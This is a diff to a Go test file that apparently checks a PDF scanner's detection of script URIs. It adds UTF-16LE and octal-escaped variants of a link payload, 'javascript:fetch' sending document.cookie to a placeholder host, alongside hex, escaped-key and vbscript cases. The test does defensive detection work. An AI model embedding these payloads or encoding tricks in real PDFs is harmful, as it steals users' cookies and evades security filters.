@@ -2,6 +2,7 @@ package filecheck
 
 import (
 	"encoding/hex"
+	"fmt"
 	"strings"
 	"testing"
 )
@@ -27,9 +28,10 @@ func uriLinkPDF(action string, more ...string) []byte {
 // the attacker said. A link to a web page passes.
 func TestPDFScriptURI(t *testing.T) {
 	js := "javascript:fetch('//x.invalid/'+document.cookie)"
-	utf16 := "\xFE\xFF"
+	utf16, utf16le := "\xFE\xFF", "\xFF\xFE"
 	for _, c := range js {
 		utf16 += "\x00" + string(c)
+		utf16le += string(c) + "\x00"
 	}
 	for _, c := range []struct {
 		name string
@@ -44,6 +46,8 @@ func TestPDFScriptURI(t *testing.T) {
 		{"hex string", uriLinkPDF("<< /S /URI /URI <" + hex.EncodeToString([]byte(js)) + "> >>")},
 		{"hex string with spaces", uriLinkPDF("<< /S /URI /URI <6A 61 76 61\n73 63 72 69 70 74 3A 61>>>")},
 		{"UTF-16 with its mark", uriLinkPDF("<< /S /URI /URI <" + hex.EncodeToString([]byte(utf16)) + "> >>")},
+		{"UTF-16LE with its mark", uriLinkPDF("<< /S /URI /URI <" + hex.EncodeToString([]byte(utf16le)) + "> >>")},
+		{"UTF-16LE literal", uriLinkPDF("<< /S /URI /URI (" + pdfLiteral(utf16le) + ") >>")},
 		{"escaped key", uriLinkPDF("<< /S /U#52I /U#52I (" + js + ") >>")},
 		{"indirect", uriLinkPDF("<< /S /URI /URI 5 0 R >>", "("+js+")")},
 		{"vbscript", uriLinkPDF("<< /S /URI /URI (vbscript:msgbox\\(1\\)) >>")},
@@ -73,4 +77,19 @@ func TestPDFScriptURI(t *testing.T) {
 	if !strings.HasPrefix(js, "javascript:") {
 		t.Fatal("the script URL of the test")
 	}
+}
+
+// pdfLiteral escapes s for a PDF literal string: every byte outside
+// printable ASCII, and the delimiters, as an octal escape.
+func pdfLiteral(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		c := s[i]
+		if c < 0x20 || c > 0x7e || c == '(' || c == ')' || c == '\\' {
+			fmt.Fprintf(&b, "\\%03o", c)
+			continue
+		}
+		b.WriteByte(c)
+	}
+	return b.String()
 }
